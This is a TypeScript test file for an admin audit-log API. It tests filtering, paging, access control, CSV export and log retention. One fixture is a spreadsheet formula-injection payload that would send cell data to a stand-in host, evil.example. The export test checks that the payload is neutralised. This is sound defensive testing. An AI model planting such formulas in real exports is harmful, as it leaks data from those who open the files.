import Papa from 'papaparse';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { readConfig } from '../../src/server/config';
import { backends, SUPERVISOR, testServer, type TestServer } from './app-fixture';

const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
type Page = {
  entries: { id: string; at: string; actorKind: string; actor: string | null; action: string }[];
  next: string | null;
};

describe.each(backends)('the audit log for admins on $title', ({ kind, skip }) => {
  let server: TestServer;
  let now: Date;
  beforeEach(async () => {
    if (skip) return;
    now = new Date('2026-03-10T10:00:00Z');
    server = await testServer(kind, { clock: () => now });
  });
  afterEach(async () => {
    if (!skip) await server.close();
  });
  const page = async (query: string) => {
    const response = await server.asAdmin('GET', `/api/v1/audit?${query}`);
    expect(response.statusCode, response.body).toBe(200);
    return response.json() as Page;
  };

  it.skipIf(skip)(
    'filters by who, what and Helsinki dates, newest first, in pages that continue',
    async () => {
      await server.close();
      // The admin signs in at 22:00 on 10 March, Helsinki time (sessions last 12 hours).
      now = new Date('2026-03-10T20:00:00Z');
      server = await testServer(kind, { clock: () => now });
      await server.signInSupervisor([]);
      // 00:30 on 11 March in Helsinki, though still 10 March in UTC.
      now = new Date('2026-03-10T22:30:00Z');
      await server.enrolTablet('hyvinkaa', HYPERLINK);
      now = new Date('2026-03-11T07:00:00Z');
      await server.login(SUPERVISOR);
      await server.login(SUPERVISOR);

      const all = await page('');
      expect(all.entries.map((e) => e.at)).toEqual([...all.entries.map((e) => e.at)].sort().reverse());
      const sini = await page(`user=${SUPERVISOR.username}`);
      expect(sini.entries.map((e) => e.action)).toEqual(['login', 'login', 'login']);
      expect(sini.entries.every((e) => e.actor === SUPERVISOR.username)).toBe(true);
      const tablets = await page('actorKind=device');
      expect(tablets.entries).toEqual([
        expect.objectContaining({ action: 'device-enrolled', actor: HYPERLINK, actorKind: 'device' }),
      ]);
      const day11 = await page('from=2026-03-11&to=2026-03-11');
      expect(day11.entries.map((e) => e.action).sort()).toEqual(
        ['device-enrolled', 'enrolment-code-created', 'login', 'login', 'point-created'].sort(),
      );
      const day10 = await page('to=2026-03-10');
      expect(day10.entries.map((e) => e.action).sort()).toEqual([
        'admin-bootstrapped',
        'login',
        'login',
        'user-created',
      ]);
      expect((await page('from=2026-03-11&action=login')).entries).toHaveLength(2);

      const first = await page('limit=2');
      expect(first.entries).toHaveLength(2);
      const second = await page(`limit=2&before=${encodeURIComponent(first.next!)}`);
      const rest = await page(`limit=200&before=${encodeURIComponent(second.next!)}`);
      expect(rest.next).toBeNull();
      const paged = [...first.entries, ...second.entries, ...rest.entries].map((e) => e.id);
      expect(paged).toEqual(all.entries.map((e) => e.id));
    },
  );

  it.skipIf(skip)('answers only admins, never cached, and says what is wrong with a query', async () => {
    const supervisorToken = await server.signInSupervisor([]);
    const asSupervisor = await server.call({
      method: 'GET',
      url: '/api/v1/audit',
      headers: { authorization: `Bearer ${supervisorToken}` },
    });
    expect(asSupervisor.statusCode).toBe(403);
    expect((await server.call({ method: 'GET', url: '/api/v1/audit' })).statusCode).toBe(401);
    const ok = await server.asAdmin('GET', '/api/v1/audit');
    expect(ok.headers['cache-control']).toBe('no-store');
    const backwards = await server.asAdmin('GET', '/api/v1/audit?from=2026-03-12&to=2026-03-11');
    expect(backwards.statusCode).toBe(400);
    expect(backwards.json().message).toContain('"from" must be the same day as "to" or before it');
    const badDate = await server.asAdmin('GET', '/api/v1/audit?from=2026-02-30');
    expect(badDate.statusCode).toBe(400);
    const nobody = await server.asAdmin('GET', '/api/v1/audit?user=nobody');
    expect(nobody.statusCode).toBe(404);
    expect(nobody.json().error).toBe('unknown-user');
  });

  it.skipIf(skip).each(['fi', 'en'] as const)(
    'exports the filtered log as %s CSV with inert labels, and the export is itself audited',
    async (lang) => {
      await server.enrolTablet('hyvinkaa', HYPERLINK);
      const response = await server.asAdmin('GET', `/api/v1/audit?actorKind=device&format=csv&lang=${lang}`);
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(response.headers['cache-control']).toBe('no-store');
      const text = response.rawPayload.toString('utf8');
      expect(text.startsWith('\uFEFF')).toBe(true);
      const parsed = Papa.parse<string[]>(text.slice(1).trimEnd(), { delimiter: lang === 'en' ? ',' : ';' });
      expect(parsed.errors).toEqual([]);
      const [heading, ...rows] = parsed.data;
      expect(heading![0]).toBe(lang === 'fi' ? 'Aika' : 'Time');
      expect(rows).toHaveLength(1);
      expect(rows[0]).toContain(`'${HYPERLINK}`);
      expect(rows[0]).toContain('device-enrolled');
      expect(rows[0]).toContain(lang === 'fi' ? 'Laite otettu käyttöön' : 'Tablet enrolled');
      expect(rows[0]![0]).toBe('2026-03-10T12:00:00.000+02:00');
      expect(parsed.data.flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);

      const exported = await page('action=audit-exported');
      expect(exported.entries).toHaveLength(1);
      expect(exported.entries[0]).toMatchObject({ actor: 'admin' });
      expect(
        (await server.asAdmin('GET', '/api/v1/audit?action=audit-exported')).json().entries[0].details,
      ).toMatchObject({ actorKind: 'device', lang });
    },
  );

  it.skipIf(skip)(
    'deletes lines older than the retention period at start, on every instance without harm',
    async () => {
      await server.signInSupervisor([]);
      now = new Date('2026-03-20T10:00:00Z');
      await server.store.audit({ actorKind: 'user', actorId: null, action: 'point-created' });
      const before = await server.store.auditLog();
      // 24 months and a few days later two instances start at once on the same database.
      now = new Date('2028-03-15T10:00:00Z');
      const { buildApp } = await import('../../src/server/app');
      const apps = await Promise.all(
        [1, 2].map(() => buildApp({ store: server.store, clock: () => now, auditRetentionMonths: 24 })),
      );
      try {
        const after = await server.store.auditLog();
        // The March 10th lines are gone, the March 20th one stays, and one line says how many went.
        expect(after.filter((e) => e.at < '2026-03-15')).toEqual([]);
        expect(after.filter((e) => e.at.startsWith('2026-03-20'))).toHaveLength(1);
        const pruned = after.filter((e) => e.action === 'audit-pruned');
        expect(pruned).toHaveLength(1);
        expect(pruned[0]!.details).toMatchObject({
          before: '2026-03-15T10:00:00.000Z',
          count: before.length - 1,
          retentionMonths: 24,
        });
      } finally {
        await Promise.all(apps.map((app) => app.close()));
      }
    },
  );
});

describe('the audit retention setting', () => {
  it('is 24 months unless NEUVO_AUDIT_RETENTION_MONTHS says otherwise, and a bad value stops the start', () => {
    expect(readConfig({}).auditRetentionMonths).toBe(24);
    expect(readConfig({ NEUVO_AUDIT_RETENTION_MONTHS: '36' }).auditRetentionMonths).toBe(36);
    for (const bad of ['0', 'two years', '1.5']) {
      expect(() => readConfig({ NEUVO_AUDIT_RETENTION_MONTHS: bad })).toThrow(/NEUVO_AUDIT_RETENTION_MONTHS/);
    }
  });
});
